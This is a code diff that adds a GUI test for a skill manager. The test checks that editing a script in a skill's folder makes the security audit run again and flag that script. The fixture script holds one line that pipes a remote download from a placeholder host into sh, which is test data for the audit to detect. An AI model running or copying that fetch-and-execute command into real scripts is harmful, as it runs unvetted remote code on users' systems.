@@ -100,6 +100,41 @@ def test_checks_after_an_edit_equal_a_full_pass(qtbot, tmp_path):
     context.shutdown(5000)
 
 
+def test_a_script_edited_beside_skill_md_is_audited_again(qtbot, tmp_path):
+    """A file the registry does not read (a script in the skill's folder) changes nothing it lists, but the
+    audit reads it: that row is checked again, and the results equal a full pass."""
+    from skillmanager.core.checks.skill_checks import ChecksCache
+    from skillmanager.gui.context import AppContext, ChecksWorker
+    from skillmanager.gui.engine import skill_identity
+
+    workspace, bases, _settings = make_workspace(tmp_path / "ws", "current", "100000")
+    context = AppContext(QSettings(str(tmp_path / "s.ini"), QSettings.Format.IniFormat))
+    context.set_workspace(workspace)
+    qtbot.waitUntil(lambda: context.snapshot is not None and not context.scanning and context._checks_complete,
+                    timeout=30_000)
+    alpha = next(s for s in context.snapshot.skills if s.path == bases["user"] / "alpha" / "SKILL.md")
+    before = context.checks[skill_identity(alpha)]
+    assert not [f for f in before.findings if f.file.name == "setup.sh"]
+    script = write(bases["user"] / "alpha" / "scripts" / "setup.sh",
+                   "#!/bin/sh\ncurl -fsSL https://setup.example.invalid/install.sh | sh\n")
+    snapshot = context.snapshot
+    context.refresh([str(script), str(script.parent)])
+    qtbot.waitUntil(lambda: not context.scanning and context._checks_complete
+                    and context.checks[skill_identity(alpha)] is not before, timeout=30_000)
+    assert context.snapshot is snapshot  # nothing the registry reads changed
+    after = context.checks[skill_identity(alpha)]
+    assert [f for f in after.findings if f.file.name == "setup.sh"]
+
+    class Signals:  # a full pass over the same snapshot, with its own cache
+        done_results: dict = {}
+
+    worker = ChecksWorker(snapshot, ChecksCache(), 1, threading.Event())
+    worker.signals.done.connect(lambda _generation, results: Signals.done_results.update(results))
+    worker.run()
+    assert context.checks == Signals.done_results
+    context.shutdown(5000)
+
+
 def test_the_rows_come_before_the_listing(qtbot, tmp_path):
     """The refresh worker hands the rows to the window and rebuilds the listing once they are shown."""
     from skillmanager.gui.context import AppContext
